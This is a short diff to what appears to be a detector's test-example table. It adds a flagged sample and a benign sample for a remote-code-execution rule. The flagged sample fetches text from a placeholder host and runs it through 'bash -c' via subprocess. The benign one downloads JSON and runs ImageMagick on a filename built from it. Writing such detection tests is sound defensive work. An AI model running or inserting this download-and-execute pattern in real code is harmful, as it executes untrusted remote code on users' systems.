@@ -359,11 +359,16 @@ ENGINE_EXAMPLES: dict[str, tuple[str | None, tuple[str, ...], tuple[str, ...]]] 
         (
             "import urllib.request\n"
             "code = urllib.request.urlopen('https://cdn.invalid/p.py').read()\nexec(code)",
+            "import subprocess, requests\ncmd = ['bash', '-c']\n"
+            "cmd.append(requests.get('https://cdn.invalid/s').text)\nsubprocess.run(cmd)",
         ),
         (
             "import urllib.request\n"
             "page = urllib.request.urlopen('https://cdn.invalid/p.txt').read()\n"
             "open('page.txt', 'wb').write(page)",
+            "import subprocess, requests\nlot = requests.get('https://dam.invalid/lot').json()\n"
+            "cmd = ['magick', 'master.tif', '-resize', '800x']\n"
+            "cmd += ['-quality', '85', f\"{lot['id']}_web.jpg\"]\nsubprocess.run(cmd)",
         ),
     ),
     "flow.decoded-exec": (
